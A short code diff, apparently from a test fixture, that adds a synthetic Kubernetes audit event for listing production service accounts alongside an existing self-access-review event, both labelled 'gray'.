+    event("gray", "accounts", "list", "/api/v1/namespaces/prod/serviceaccounts?limit=500", PEOPLE[0], KUBECTL[0],
+          "10.9.3.17")
     event("gray", "dashboard", "create", "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews", PEOPLE[0],
           "Lens/2024.7", "10.9.3.17", 201)
 
